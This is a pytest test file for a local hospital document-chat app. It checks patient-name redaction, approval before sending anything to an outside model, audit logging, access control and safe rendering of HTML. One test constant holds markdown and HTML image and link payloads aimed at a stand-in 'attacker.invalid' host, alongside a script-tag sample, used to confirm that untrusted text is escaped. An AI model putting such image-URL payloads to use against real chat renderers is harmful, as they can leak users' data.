"""The pages over a real library, a real log and a real provider on loopback."""

import json
import re
from collections.abc import Callable, Iterator
from datetime import date
from html import unescape
from pathlib import Path

import pytest
import streamlit as st
from hypothesis import given
from hypothesis import strategies as some
from streamlit.testing.v1 import AppTest

from app.actor import actor
from app.demo_server import DemoServer
from app.ui import launch, safe
from app.ui.session import Chat, Turn
from app.wiring import Wiring
from tests import tiny_gguf
from tests.ward import IDENTITIES

PAGE = Path(launch.__file__).with_name("page.py")
EASY = "How long must hands be rubbed with alcohol?"
HARD = (
    "How did Chidi Okafor's creatinine and furosemide change between 03/14/2024 and 09/20/2024, "
    "and why?"
)
INJECTION = "![x](http://attacker.invalid/?q=1) <img src=http://attacker.invalid/> [a](http://b.c)"


@pytest.fixture
def open_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[Path], None]]:
    """Point the pages at a data folder; what they opened is closed afterwards."""

    def point(home: Path) -> None:
        monkeypatch.setenv("CHAPERONE_HOME", str(home))

    yield point
    st.cache_resource.clear()


@pytest.fixture
def chat(home_copy: Path, open_home: Callable[[Path], None]) -> AppTest:
    """The whole page over the ward, with no expert model."""
    open_home(home_copy)
    return AppTest.from_file(PAGE, default_timeout=60).run()


@pytest.fixture
def provider(monkeypatch: pytest.MonkeyPatch) -> Iterator[DemoServer]:
    """A provider on loopback that answers with sentences of what it was sent."""
    with DemoServer() as server:
        monkeypatch.setenv("CHAPERONE_PROVIDER", "compatible")
        monkeypatch.setenv("CHAPERONE_PROVIDER_URL", server.url)
        monkeypatch.setenv("CHAPERONE_PROVIDER_MODEL", "demo")
        monkeypatch.setenv("CHAPERONE_PROVIDER_KEY", "for-loopback-only")
        yield server


def documents_page() -> None:
    from app.ui import server
    from app.ui.views import documents

    with server.errors_in_one_line():
        documents.show()


def log_page() -> None:
    from app.ui import server
    from app.ui.views import log

    with server.errors_in_one_line():
        log.show()


def costs_page() -> None:
    from app.ui import server
    from app.ui.views import costs

    with server.errors_in_one_line():
        costs.show()


def text_of(page: AppTest) -> str:
    """Return what stands on a page in HTML of ours, as a person reads it."""
    return "\n".join(unescape(re.sub(r"<[^>]+>", "", html.value)) for html in page.html)


def ask(page: AppTest, question: str) -> None:
    page.chat_input[0].set_value(question).run()
    assert not page.exception


def button(page: AppTest, label: str) -> None:
    (wanted,) = (one for one in page.button if one.label == label)
    wanted.click().run()
    assert not page.exception


def select_rows(page: AppTest, *rows: int) -> None:
    key = page.dataframe[0].key
    assert key is not None
    page.session_state[key] = {"selection": {"rows": list(rows)}}
    page.run()


def ask_hard(page: AppTest) -> None:
    page.multiselect(key="collections").select("notes").run()
    ask(page, HARD)


def panel(page: AppTest) -> str:
    return page.main.expander[-1].label


# Chat


def test_a_question_is_answered_here_with_its_source(chat: AppTest) -> None:
    ask(chat, EASY)
    assert "30 seconds" in text_of(chat)
    assert "policies/hand-hygiene.md" in text_of(chat)
    assert "Answered here · extracted passages" in chat.markdown[0].value
    assert panel(chat) == "Nothing left the building"


def test_a_citation_opens_its_passage_highlighted(chat: AppTest) -> None:
    ask(chat, EASY)
    assert not any("<mark>" in html.value for html in chat.html)
    button(chat, "Open \\[1\\]")
    (passage,) = (html.value for html in chat.html if "<mark>" in html.value)
    before, _, rest = passage.partition("<mark>")
    quote, _, _ = rest.partition("</mark>")
    assert "Clean your hands" in before
    assert "30 seconds" in quote


def test_what_the_documents_do_not_say_is_not_answered(chat: AppTest) -> None:
    ask(chat, "Which telescope discovered the moons of Neptune?")
    assert "Not in the documents" in chat.markdown[0].value
    assert "Not in the documents." in text_of(chat)


def test_a_conversation_belongs_to_its_session(chat: AppTest) -> None:
    ask(chat, EASY)
    other = AppTest.from_file(PAGE, default_timeout=60).run()
    assert len(chat.chat_message) == 2
    assert len(other.chat_message) == 0


def test_a_new_conversation_begins_empty(chat: AppTest) -> None:
    ask(chat, EASY)
    button(chat, "New conversation")
    assert len(chat.chat_message) == 0


def test_nothing_is_sent_before_the_approval_and_names_come_back(
    provider: DemoServer, chat: AppTest
) -> None:
    ask_hard(chat)
    assert panel(chat) == "What would leave the building"
    assert provider.received == []
    shown = "\n".join(h.value for h in chat.html if "ch-payload" in h.value)
    assert re.search(r"\[PERSON_\d{4}\]", shown)
    assert not [value for value in IDENTITIES if value in shown]

    button(chat, "Approve and send")
    assert len(provider.received) == 1
    sent = provider.received[0].decode()
    assert not [value for value in IDENTITIES if value in sent]
    # The reply named placeholders; the page names the patient.
    assert "Answered by an expert model" in chat.markdown[0].value
    answer = chat.chat_message[1].html[0].value
    assert "Okafor" in answer
    assert "PERSON_" not in answer
    assert any(expander.label == "What left the building" for expander in chat.expander)


def test_what_was_shown_is_what_is_sent(provider: DemoServer, chat: AppTest) -> None:
    ask_hard(chat)
    shown = [text for h in chat.html if (text := _payload(h.value)) is not None]
    button(chat, "Approve and send")
    sent = [message["content"] for message in json.loads(provider.received[0])["messages"]]
    assert shown == sent


def test_a_second_click_decides_nothing() -> None:
    talk, turn = Chat(), Turn(HARD)
    talk.decide(turn, True)
    talk.decision = None
    talk.decide(turn, True)
    assert talk.decision is None


def test_a_decline_keeps_everything_here(provider: DemoServer, chat: AppTest) -> None:
    ask_hard(chat)
    button(chat, "Decline, keep it here")
    assert provider.received == []
    assert "Declined: nothing was sent." in text_of(chat)
    assert panel(chat) == "Nothing left the building"
    assert not [one for one in chat.button if one.label == "Approve and send"]


def test_stay_local_never_asks(provider: DemoServer, chat: AppTest) -> None:
    chat.toggle(key="stay_local").set_value(True).run()
    ask_hard(chat)
    assert panel(chat) == "Nothing left the building"
    assert "a local answer was asked for" in text_of(chat)
    assert provider.received == []


def test_a_class_of_records_that_never_leaves_is_held_back(
    provider: DemoServer, chat: AppTest
) -> None:
    ask(chat, "Compare how Mei-Ling Tan slept before and after sertraline was raised, and why.")
    assert panel(chat) == "Nothing left the building"
    assert "a class of records that never leaves" in text_of(chat)
    assert provider.received == []


def test_a_policy_that_sends_without_asking_shows_what_left(
    provider: DemoServer, chat: AppTest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    policy = tmp_path / "open.toml"
    policy.write_text(
        'name = "open"\n[release]\ndecision = "send"\n[risk]\nk = 1\n'
        "[providers.compatible]\nbaa = true\n"
    )
    monkeypatch.setenv("CHAPERONE_POLICY", str(policy))
    st.cache_resource.clear()
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    ask_hard(page)
    assert len(provider.received) == 1
    assert "Answered by an expert model" in page.markdown[0].value
    labels = [expander.label for expander in page.main.expander]
    assert labels == ["The local answer, before the expert's", "What left the building"]
    # Each of the two has its own sources.
    opened = [one.key for one in page.button if one.key and one.key.startswith("open-turn-0")]
    assert {"open-turn-0-1", "open-turn-0-local-1"} <= set(opened)
    assert "it may go: " in text_of(page)
    assert "price unknown, " in text_of(page)


def test_a_question_asked_later_takes_the_offer_back(provider: DemoServer, chat: AppTest) -> None:
    ask_hard(chat)
    ask(chat, "What was the creatinine of Chidi Okafor?")
    assert not [one for one in chat.button if one.key and one.key.startswith("approve-0")]


def test_a_provider_that_is_down_leaves_the_local_answer(
    chat: AppTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    with DemoServer() as server:
        url = server.url
    monkeypatch.setenv("CHAPERONE_PROVIDER", "compatible")
    monkeypatch.setenv("CHAPERONE_PROVIDER_URL", url)
    monkeypatch.setenv("CHAPERONE_PROVIDER_MODEL", "demo")
    monkeypatch.setenv("CHAPERONE_PROVIDER_KEY", "for-loopback-only")
    st.cache_resource.clear()
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    ask_hard(page)
    button(page, "Approve and send")
    assert "The expert did not answer, so the local answer stands" in text_of(page)


def test_an_empty_library_says_what_to_do(
    tmp_path: Path, open_home: Callable[[Path], None]
) -> None:
    open_home(tmp_path / "new")
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    assert "chaperone ingest FOLDER" in page.info[0].value
    assert page.chat_input[0].disabled


def test_a_wrong_key_is_one_line_and_no_traceback(
    chat: AppTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHAPERONE_KEY", "ab" * 32)
    st.cache_resource.clear()
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    assert len(page.error) == 1
    assert "\n" not in page.error[0].value
    assert "key" in page.error[0].value
    assert not page.exception


# Documents


def test_a_document_is_uploaded_found_and_deleted(
    home_copy: Path, open_home: Callable[[Path], None]
) -> None:
    open_home(home_copy)
    page = AppTest.from_function(documents_page, default_timeout=60).run()
    held = len(page.dataframe[0].value)
    note = b"Visiting hours in the burn unit are from 2 to 6 in the afternoon.\n"
    page.file_uploader[0].upload("visits.txt", note, "text/plain")
    page.file_uploader[0].upload("empty.txt", b"", "text/plain").run()
    page.text_input(key="collection").set_value("house rules").run()
    button(page, "Add to the library")
    assert "1 added" in page.warning[0].value
    assert "1 set aside" in page.warning[0].value
    assert "empty.txt" in text_of(page)

    assert "the newest: finished" in page.expander[-1].label
    runs = page.expander[-1].dataframe[0].value
    assert list(runs["New"]) == [1, 7]
    assert list(runs["Set aside"]) == [1, 0]

    page.text_input(key="name").set_value("VISITS").run()
    listed = page.dataframe[0].value
    assert list(listed["Document"]) == ["visits.txt"]
    assert list(listed["Collection"]) == ["house rules"]

    select_rows(page, 0)
    button(page, "Delete 1 selected")
    assert "visits.txt" in text_of(page)
    button(page, "Delete")
    page.text_input(key="name").set_value("").run()
    assert len(page.dataframe[0].value) == held
    assert "visits.txt" not in set(page.dataframe[0].value["Document"])


def test_a_deletion_can_be_called_off(home_copy: Path, open_home: Callable[[Path], None]) -> None:
    open_home(home_copy)
    page = AppTest.from_function(documents_page, default_timeout=60).run()
    held = list(page.dataframe[0].value["Document"])
    select_rows(page, 0, 1)
    button(page, "Delete 2 selected")
    button(page, "Keep")
    assert list(page.dataframe[0].value["Document"]) == held


# Redaction log


def test_the_log_shows_what_happened(provider: DemoServer, chat: AppTest) -> None:
    ask(chat, EASY)
    ask_hard(chat)
    button(chat, "Approve and send")
    page = AppTest.from_function(log_page, default_timeout=60).run()
    assert page.success[0].value.startswith("Intact: 4 records")
    assert list(page.dataframe[0].value["Event"]) == ["received", "released", "asked", "answered"]

    page.selectbox(key="event").select("released").run()
    assert list(page.dataframe[0].value["Record"]) == [3]
    page.number_input(key="record").set_value(3).run()
    assert re.search(r"\[PERSON_\d{4}\]", text_of(page))
    assert [e.label for e in page.expander] == ["Followed by record 4: received"]
    assert not [value for value in IDENTITIES if value in text_of(page)]


def test_a_record_opens_from_its_answer(chat: AppTest) -> None:
    ask(chat, EASY)
    button(chat, "Record 1 on the redaction log")
    assert chat.title[0].value == "Redaction log"
    assert chat.number_input(key="record").value == 1


def test_the_costs_are_those_of_the_log(provider: DemoServer, chat: AppTest) -> None:
    empty = AppTest.from_function(costs_page, default_timeout=60).run()
    assert "Nothing was asked" in empty.info[0].value
    ask(chat, EASY)
    ask_hard(chat)
    button(chat, "Approve and send")
    page = AppTest.from_function(costs_page, default_timeout=60).run()
    assert not page.exception
    table = page.dataframe[0].value
    assert list(table["User"]) == [actor()]
    assert list(table["Sent"]) == list(table["Answered here"]) == [1]
    assert [metric.label for metric in page.metric] == [
        "Cost", "Saved, estimated", "Budget a month",
    ]  # fmt: skip
    # The demo's server has no price and tells no tokens.
    assert "Without a known price, not in the cost: 1 exchanges." in text_of(page)
    assert "estimated from characters: 1." in text_of(page)


def test_an_empty_log_says_so(tmp_path: Path, open_home: Callable[[Path], None]) -> None:
    open_home(tmp_path / "new")
    page = AppTest.from_function(log_page, default_timeout=60).run()
    assert "empty" in page.info[0].value
    assert not page.exception


def test_a_log_that_was_cut_off_is_reported(chat: AppTest, home_copy: Path) -> None:
    before = (home_copy / "audit.db").read_bytes() if (home_copy / "audit.db").exists() else b""
    ask(chat, EASY)
    st.cache_resource.clear()
    (home_copy / "audit.db").write_bytes(before)
    page = AppTest.from_function(log_page, default_timeout=60).run()
    assert "Broken at record" in page.error[0].value


# Who may read what


def test_a_filter_narrows_the_answer_and_nonsense_is_said(chat: AppTest) -> None:
    chat.text_input(key="patient").set_value("Okafor").run()
    ask(chat, "What was the creatinine?")
    assert "notes/okafor-2024-09.txt" in text_of(chat)
    assert "Filtered by patient" in text_of(chat)
    chat.text_input(key="patient").set_value("Quartermaine").run()
    ask(chat, "What was the creatinine?")
    assert "no patient of this name" in chat.error[0].value
    chat.date_input(key="since").set_value(date(2024, 6, 2)).run()
    chat.date_input(key="until").set_value(date(2024, 6, 1)).run()
    assert "the last day is before the first" in chat.sidebar.error[0].value
    assert chat.chat_input[0].disabled


def test_the_page_shows_what_its_reader_may_read(
    home_copy: Path, open_home: Callable[[Path], None]
) -> None:
    table = '[access.collections]\npolicies = ["all"]\n[access.people]\n"{}" = ["all"]\n'
    (home_copy / "chaperone.toml").write_text(table.format(actor()))
    open_home(home_copy)
    page = AppTest.from_function(documents_page, default_timeout=60).run()
    assert {*page.dataframe[0].value["Collection"]} == {"policies"}
    assert "collections that nobody may read: 3" in page.warning[0].value.replace("\\", "")
    assert "you may not read the collection" in page.warning[1].value
    page.text_input(key="collection").set_value("policies").run()
    assert len(page.warning) == 1
    chat = AppTest.from_file(PAGE, default_timeout=60).run()
    ask(chat, "How did Chidi Okafor's creatinine change?")
    assert "okafor" not in text_of(chat).replace("Okafor", "").casefold()
    # Somebody whom the table does not list is told so.
    (home_copy / "chaperone.toml").write_text(table.format("somebody else"))
    page.run()
    assert "is not listed under" in page.warning[1].value.replace("\\", "")
    assert len(page.dataframe) == 0


# What others wrote


def test_an_answer_that_holds_markdown_is_shown_as_text(
    home_copy: Path, open_home: Callable[[Path], None], wiring: Wiring
) -> None:
    name = "![n](http:attacker.invalid).txt"
    text = f"The burn unit's visiting hours {INJECTION} are from 2 to 6.\n"
    wiring.desk.ingest_uploads([(name, text.encode())], "general", lambda progress: None, "ines")
    open_home(home_copy)
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    ask(page, f"When are visiting hours in the burn unit? {INJECTION}")
    assert "2 to 6" in text_of(page)
    for html in page.html:
        assert "<img" not in html.value
        assert "<a" not in html.value
    # Nothing of it came to where Markdown is read.
    for element in [*page.markdown, *page.caption, *page.info]:
        assert "attacker" not in element.value
    for expander in page.expander:
        assert "attacker" not in expander.label


TEXTS = some.text(some.characters(codec="utf-8"), max_size=60) | some.sampled_from(
    [INJECTION, "<script>alert(1)</script>", "[PERSON_1]", "a [1] & [99] <b>", "x\u202ey"]
)


@given(TEXTS)
def test_html_of_a_text_holds_no_element_but_ours(text: str) -> None:
    for html in (
        safe.block(text),
        safe.answer(text, {1}),
        safe.passage(text, text, text),
        safe.payload(text),
        safe.facts({"Name": text}),
    ):
        tags = set(re.findall(r"<[^>]*>", html))
        assert all(re.fullmatch(r"</?(div|span|b|i|mark)( class=\"[\w -]+\")?>", t) for t in tags)


@given(TEXTS)
def test_a_text_reads_as_it_was(text: str) -> None:
    assert unescape(re.sub(r"<[^>]+>", "", safe.block(text))) == text


@given(TEXTS)
def test_a_label_leaves_markdown_nothing_to_read(text: str) -> None:
    line = safe.label(text)
    assert "\n" not in line
    assert not re.search(r"(?<!\\)(?:\\\\)*[!\[\]()<>*_`$:#]", re.sub(r"\\.", "", line))
    assert "://" not in line.replace("\\", "")


def test_a_character_that_hides_is_shown() -> None:
    assert "U+202E" in safe.payload("dose \u202e05")
    assert "U+200B" in safe.payload("a\u200bb")


def test_citations_and_placeholders_are_set_off() -> None:
    assert safe.answer("Stop it. [1] [7]", {1}).count("ch-cite") == 1
    assert safe.payload("[PERSON_1_B] and [1]").count("ch-chip") == 1


@given(TEXTS, TEXTS, some.integers(0, 60), some.integers(0, 60))
def test_marks_change_nothing_of_the_text_and_let_nothing_in(
    text: str, why: str, start: int, end: int
) -> None:
    start, end = sorted((min(start, len(text)), min(end, len(text))))
    html = safe.answer(text, (), [(start, end, "⚠", why)])
    assert html.count('class="ch-doubt"') == 1
    assert len(re.findall(r"<[^>]*>", html)) == 6
    assert "<script" not in html
    assert "<img" not in html


def test_a_statement_that_no_passage_bears_out_is_marked_with_a_legend(
    home_copy: Path,
    tmp_path: Path,
    open_home: Callable[[Path], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    script = "Rub for 30 seconds [1]. Then rub for 90 seconds more [1]."
    path = tiny_gguf.write(tmp_path / "scripted.gguf", "llama", script=script)
    monkeypatch.setenv("CHAPERONE_MODEL", str(path))
    open_home(home_copy)
    page = AppTest.from_file(PAGE, default_timeout=60).run()
    ask(page, EASY)
    (marked,) = (
        html.value for html in page.html if "ch-doubt" in html.value and "<style" not in html.value
    )
    doubted = re.search(r'<span class="ch-doubt">(.*?)</span>', marked)
    assert doubted
    assert "90 seconds" in doubted[1]
    assert "Rub for 30 seconds" not in doubted[1]
    assert (
        "⚠ marks a statement to check: no passage that it cites has one of its numbers"
        in text_of(page)
    )


# The server


def test_the_server_listens_on_this_machine_and_tells_nobody() -> None:
    given = launch.arguments(9000)
    assert given[0] == "run"
    assert Path(given[1]) == PAGE
    assert {
        "--server.port=9000",
        "--server.address=127.0.0.1",
        "--browser.gatherUsageStats=false",
        "--client.showErrorDetails=none",
    } <= set(given)


def _payload(html: str) -> str | None:
    found = re.search(r'<div class="ch-text ch-payload(?: ch-brief)?">(.*)</div>', html, re.DOTALL)
    return unescape(re.sub(r"<[^>]+>", "", found[1])) if found else None
